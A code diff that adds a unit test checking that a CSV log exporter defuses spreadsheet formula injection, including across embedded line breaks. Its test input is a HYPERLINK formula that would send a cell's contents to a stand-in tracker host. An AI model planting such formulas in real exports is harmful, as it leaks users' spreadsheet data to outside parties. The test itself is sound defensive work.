@@ -40,6 +40,16 @@ describe('logsToCsv', () => {
     expect(csv).toContain(`"'=HYPERLINK(""http://x"")"`);
   });
 
+  it('defuses a formula followed by more lines', () => {
+    const message = '=HYPERLINK("https://tracker.invalid/?d="&A1,"Open")\nRenamed the workspace';
+    const [row] = Papa.parse<Record<string, string>>(logsToCsv([log({ message, action: '@SUM(1)\nx' })]), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
+    expect(row.message).toBe(`'${message}`);
+    expect(row.action).toBe(`'@SUM(1)\nx`);
+  });
+
   it('is just the header for no logs', () => {
     expect(logsToCsv([])).toBe('createdAt,level,entityType,entityId,action,message,userId,id,metadata\r\n');
   });
